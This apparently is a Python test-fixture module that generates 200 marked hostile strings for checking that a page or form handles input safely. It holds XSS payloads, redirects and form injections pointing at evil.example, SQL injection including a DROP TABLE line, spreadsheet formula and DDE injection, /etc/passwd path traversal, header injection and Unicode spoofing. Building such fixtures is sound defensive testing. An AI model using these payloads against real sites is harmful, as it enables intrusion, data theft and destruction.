"""Two hundred texts that nobody should be able to hurt a page with, each with a mark to find it again."""

import re
import unicodedata

MARK = re.compile(r"zq(\d{3})zq")
PATTERNS = (
    "<script>pwned('{}')</script>",
    "</script><script>pwned('{}')</script>",
    "<img src=x onerror=\"pwned('{}')\">",
    "<svg onload=pwned('{}')>",
    "\"><svg/onload=pwned('{}')>",
    "' onmouseover='pwned(\"{}\")",
    '" autofocus onfocus="pwned(\'{}\')" x="',
    "javascript:pwned('{}')",
    "<a href=\"javascript:pwned('{}')\">tap</a>",
    "<iframe srcdoc=\"<script>pwned('{}')</script>\"></iframe>",
    "<style>*{{display:none}}</style>{}",
    "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{}>",
    '<form action=//evil.example><input name="{}"></form>',
    "</textarea><script>pwned('{}')</script>",
    "</title></option></select><b>{}</b>",
    "<!-- {} -->",
    "]]><b>{}</b>",
    "&lt;b&gt;{}&lt;/b&gt;",
    "&#60;script&#62;pwned('{}')",
    "{{{{7*7}}}} {}",
    "{{% raise 'x' %}} {}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {}",
    "{{{{ request.app.state.access.key }}}} {}",
    "%s %d %(x)s {{0}} {}",
    "'; DROP TABLE people; -- {}",
    '" OR "1"="1 {}',
    "') UNION SELECT secret FROM sessions -- {}",
    "=HYPERLINK(\"http://evil.example/{}\",\"tap\")",
    "+cmd|' /C calc'!A0 {}",
    "-2+3+{}",
    "@SUM(1+1)*{}",
    "../../../../etc/passwd {}",
    "\\..\\..\\windows {}",
    "a\r\nX-Injected: {}",
    "line one\nline two {}",
    "\ttab {}",
    "nul\x00nul {}",
    "\u202egnp.exe {}",
    "\u2066isolate {}",
    "zero\u200bwidth\u200d{}\ufeff",
    "Z\u0351\u0357\u036c" + "\u0310\u0308\u0301" * 8 + " {}",
    "مرحبا بكم {}",
    "שלום {} עולם",
    "👩‍👩‍👧‍👦🎲🏴‍☠️ {}",
    "ﷺ ﷽ {}",
    "W" * 71 + "{}",
    "null undefined NaN None {}",
    "{} 　 　",
    "p1 organizer {}",
)  # fmt: skip
AROUND = ("{}", "Ana {}", "{} & Söhne", "“{}”")


def _made() -> tuple[str, ...]:
    texts = [around.format(pattern) for around in AROUND for pattern in PATTERNS]
    return tuple(text.format(f"zq{number:03}zq") for number, text in enumerate(texts))


TEXTS = _made()
NAMES = tuple(text for text in TEXTS if len(text) <= 80 and text.isprintable())


def plain(text: str) -> str:
    """As two texts are compared: composed, and without what nobody sees or what stands in its place."""
    composed = unicodedata.normalize("NFC", text).replace("\ufffd", "")
    return "".join(one for one in composed if one.isprintable() and not one.isspace())


def marks(text: str) -> set[int]:
    return {int(number) for number in MARK.findall(text)}
